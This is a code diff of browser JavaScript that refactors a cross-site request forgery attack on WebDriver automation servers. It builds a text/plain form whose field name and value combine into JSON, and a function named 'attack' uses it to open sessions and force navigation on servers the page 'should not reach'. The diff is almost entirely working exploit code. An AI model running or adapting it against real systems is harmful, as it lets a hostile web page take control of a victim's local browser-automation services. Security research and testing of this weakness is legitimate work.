@@ -1,12 +1,18 @@
-// Windows of its own, each at a server it should not reach, and each made to ask for a session: their texts are read from outside.
-globalThis.openWindows = (targets) => {
+// The classic: a text/plain form whose name and value make JSON of the equals sign between them.
+const commandForm = (action, target) => {
+  const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'text/plain', action, target });
+  const name = '{"capabilities":{"alwaysMatch":{"browserName":"chrome"}},"url":"data:text/html,taken","x":"';
+  form.append(Object.assign(document.createElement('input'), { name, value: '"}' }));
+  document.body.append(form);
+  form.submit();
+};
+
+// Windows of its own, each at a server that it should not reach: whether one answered there is read from outside.
+globalThis.openWindows = (targets, sessionId) => {
   for (const target of targets) {
     open(`http://${target}/status`);
-    const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'text/plain', action: `http://${target}/session`, target: '_blank' });
-    const input = Object.assign(document.createElement('input'), { name: '{"capabilities":{"alwaysMatch":{"browserName":"chrome"}},"x":"', value: '"}' });
-    form.append(input);
-    document.body.append(form);
-    form.submit();
+    commandForm(`http://${target}/session`, '_blank');
+    commandForm(`http://${target}/session/${sessionId}/url`, '_blank');
   }
 };
 
@@ -47,15 +53,7 @@ globalThis.attack = async (targets, sessionId) => {
       const frame = document.createElement('iframe');
       frame.name = `f${Math.random()}`;
       document.body.append(frame);
-      const form = document.createElement('form');
-      Object.assign(form, { method: 'post', enctype: 'text/plain', action: origin + path, target: frame.name });
-      const input = document.createElement('input');
-      // The classic: a text/plain form whose name and value make JSON of the equals sign between them.
-      input.name = '{"capabilities":{"alwaysMatch":{"browserName":"chrome"}},"url":"data:text/html,taken","x":"';
-      input.value = '"}';
-      form.append(input);
-      document.body.append(form);
-      form.submit();
+      commandForm(origin + path, frame.name);
     });
   const tryFrame = (url) => {
     const frame = document.createElement('iframe');
